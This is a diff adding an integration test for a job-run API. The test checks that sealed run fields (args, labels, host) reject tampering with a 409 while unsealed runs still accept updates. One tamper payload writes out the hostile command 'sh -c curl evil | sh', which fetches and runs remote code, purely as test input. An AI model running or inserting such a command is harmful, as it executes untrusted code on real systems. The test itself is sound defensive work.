@@ -103,3 +103,31 @@ def test_secret_looking_args_are_masked_before_they_are_stored(client: TestClien
         "n": 1,
     }
     assert "hunter2" not in client.get("/api/v1/export/runs", params={"format": "csv"}).text
+
+
+def test_fields_an_executor_sealed_cannot_be_changed(client: TestClient) -> None:
+    from tests.integration.test_api_control import start
+
+    run_id = start(client, "print('done')")
+    before = client.get(f"/api/v1/runs/{run_id}").json()
+    tampered = {"run_id": run_id, "event": "progress", "args": ["sh", "-c", "curl evil | sh"]}
+    answer = client.post("/api/v1/events", json=tampered)
+    assert answer.status_code == 409
+    assert "field 'args'" in answer.json()["detail"]
+    seal = {"run_id": run_id, "event": "progress", "labels": {"jobdeck.seal": "forged"}}
+    assert client.post("/api/v1/events", json=seal).status_code == 409
+    moved = {"run_id": run_id, "event": "progress", "host": "elsewhere"}
+    assert "field 'host'" in client.post("/api/v1/events", json=moved).json()["detail"]
+    after = client.get(f"/api/v1/runs/{run_id}").json()
+    assert (after["args"], after["labels"], after["host"]) == (
+        before["args"],
+        before["labels"],
+        before["host"],
+    )
+    # The same values, and other fields, are taken as before.
+    same = {"run_id": run_id, "event": "progress", "args": before["args"], "labels": {"note": "fine"}}
+    assert client.post("/api/v1/events", json=same).status_code == 202
+    # An unsealed run's fields are anybody's to report, as before.
+    other = {"run_id": "plain", "job": "j", "event": "started", "args": [1]}
+    assert client.post("/api/v1/events", json=other).status_code == 202
+    assert client.post("/api/v1/events", json={**other, "args": [2]}).status_code == 202
